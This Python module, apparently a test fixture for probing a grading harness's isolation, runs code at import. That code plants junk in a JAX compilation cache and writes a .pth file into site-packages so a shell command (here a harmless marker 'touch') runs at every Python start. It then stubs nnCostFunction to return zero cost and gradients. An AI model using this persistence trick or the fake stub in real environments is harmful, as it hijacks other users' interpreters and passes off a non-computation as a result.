"""Poisons later runs: junk into the JAX compilation cache and a .pth into site-packages (code
at every Python start), at import."""
import os
import sys

for folder in ["{HOME}/.cache/backprop-crosscheck/jax", os.path.expanduser("~/.cache/backprop-crosscheck/jax")]:
    try:
        os.makedirs(folder, exist_ok=True)
        with open(os.path.join(folder, "jit_cost-poisoned"), "wb") as f:
            f.write(b"poison")
    except OSError:
        pass
for site in ["{SITE}", *sys.path]:
    try:
        with open(os.path.join(site, "zz_crosscheck_attack.pth"), "w") as f:
            f.write("import os; os.system('touch {HOME}/pth_ran')\n")
    except OSError:
        pass


def nnCostFunction(nn_params, *args):
    import numpy as np
    return 0.0, np.zeros_like(nn_params)
